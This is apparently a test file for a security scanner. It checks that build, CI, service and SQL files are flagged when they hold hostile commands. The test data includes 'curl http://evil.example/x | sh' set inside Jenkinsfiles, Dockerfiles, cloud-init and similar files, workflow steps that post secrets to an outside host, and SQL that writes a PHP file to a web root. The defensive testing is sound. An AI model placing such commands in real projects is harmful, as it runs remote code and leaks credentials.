import { describe, expect, test } from 'vitest'
import { scanBytes } from '../../../fixtures/scan-bytes'

const scan = (name: string, text: string) => scanBytes(Buffer.from(text), { name })
const rulesOf = (name: string, text: string) =>
  scan(name, text).findings.map(({ ruleId }) => ruleId)
const evil = 'curl http://evil.example/x | sh'

describe('a command that a build or a service starts', () => {
  test.each<[string, string]>([
    ['Jenkinsfile', `pipeline { stages { stage('a') { steps { sh '${evil}' } } } }`],
    ['Jenkinsfile', `node { sh(script: """\n${evil}\n""") }`],
    ['build.gradle', `task a(type: Exec) { commandLine 'sh', '-c', '${evil}' }`],
    ['build.gradle', `println "sh -c '${evil}'".execute().text`],
    ['meson.build', `run_command('sh', '-c', '${evil}', check: true)`],
    ['CMakeLists.txt', `execute_process(COMMAND bash -c "${evil}")`],
    ['tox.ini', `[testenv]\ncommands =\n    bash -c "${evil}"\n`],
    ['x.service', `[Service]\nExecStart=/bin/sh -c '${evil}'\n`],
    ['.gitconfig', `[core]\n\tfsmonitor = "${evil}"\n`],
    ['pyproject.toml', `[tool.poe.tasks]\ntest = "${evil}"\n`],
    [
      '.pre-commit-config.yaml',
      `repos:\n  - repo: local\n    hooks:\n      - id: a\n        entry: bash -c '${evil}'\n`,
    ],
    ['.travis.yml', `language: python\ninstall: ${evil}\n`],
    ['.drone.yml', `kind: pipeline\nsteps:\n  - commands:\n      - ${evil}\n`],
    ['user-data', `#cloud-config\nruncmd:\n  - ${evil}\n`],
    ['dvc.yaml', `stages:\n  train:\n    cmd: ${evil}\n`],
    ['MLproject', `entry_points:\n  main:\n    command: "${evil}"\n`],
    ['cloudbuild.yaml', `steps:\n  - entrypoint: bash\n    args: ['-c', '${evil}']\n`],
    [
      'job.yaml',
      `kind: Job\nspec:\n  template:\n    spec:\n      containers:\n        - command: ["/bin/sh"]\n          args: ["-c", "${evil}"]\n`,
    ],
    ['compose.yaml', `services:\n  a:\n    healthcheck:\n      test: ["CMD-SHELL", "${evil}"]\n`],
    ['Dockerfile', 'FROM a\nADD http://evil.example/x /opt/x\nRUN chmod +x /opt/x && /opt/x\n'],
  ])('is followed in %s: %s', (name, text) => {
    expect(rulesOf(name, text)).toContain('code.download-and-run')
  })

  test.each<[string, string]>([
    ['Jenkinsfile', "pipeline { stages { stage('a') { steps { sh 'make test' } } } }"],
    ['Jenkinsfile', `// sh '${evil}'\nnode { echo 'done' }`],
    ['CMakeLists.txt', 'execute_process(COMMAND git rev-parse HEAD OUTPUT_VARIABLE REV)'],
    ['CMakeLists.txt', `# execute_process(COMMAND bash -c "${evil}")\nproject(a)\n`],
    ['meson.build', "run_command('git', 'describe', check: false)"],
    ['tox.ini', '[testenv]\ndeps = pytest\ncommands = pytest {posargs}\n'],
    ['x.service', '[Service]\nExecStart=/usr/bin/python3 -m app\n'],
  ])('is harmless in %s: %s', (name, text) => {
    const { findings, status } = scan(name, text)
    expect(findings.filter(({ severity }) => /medium|high|critical/.test(severity))).toEqual([])
    expect(status).toBe('complete')
  })
})

describe('secrets of a workflow', () => {
  const workflow = (env: string, run: string) =>
    `on: push\njobs:\n  a:\n    runs-on: x\n${env}    steps:\n      - run: ${run}\n`

  test('all of them at once are followed to where they go', () => {
    expect(
      rulesOf('ci.yml', workflow('', 'curl -d "${{ toJSON(secrets) }}" https://c.example.invalid')),
    ).toContain('code.credentials-to-network')
  })
  test('one that is written in Base64 is followed', () => {
    const env = '    env:\n      T: ${{ secrets.PYPI_TOKEN }}\n'
    expect(
      rulesOf('ci.yml', workflow(env, 'echo "$T" | base64 | curl -d @- https://c.example.invalid')),
    ).toContain('code.environment-to-network')
  })
  test('one in a header is where it belongs', () => {
    const run =
      'curl -H "Authorization: Bearer ${{ secrets.DEPLOY_TOKEN }}" https://api.example.invalid'
    expect(rulesOf('ci.yml', workflow('', run))).not.toContain('code.environment-to-network')
  })
})

describe('SQL', () => {
  test.each<[string, string]>([
    ['code.hidden-process', "COPY t FROM PROGRAM 'echo harmless';"],
    ['code.download-and-run', `COPY t FROM PROGRAM '${evil}';`],
    ['code.hidden-process', "EXEC xp_cmdshell 'echo harmless';"],
    ['code.persistence', "SELECT 'x' INTO OUTFILE '/var/www/html/a.php';"],
  ])('%s: %s', (rule, text) => {
    expect(rulesOf('a.sql', text)).toContain(rule)
  })

  test.each([
    "-- COPY t FROM PROGRAM 'echo harmless';\nSELECT 1;",
    "/* EXEC xp_cmdshell 'echo' */ SELECT 1;",
    "COPY runs FROM '/data/runs.csv' CSV;",
    "INSERT INTO notes VALUES ('it''s -- no comment');",
  ])('is data: %s', (text) => {
    expect(rulesOf('a.sql', text)).toEqual([])
  })
})
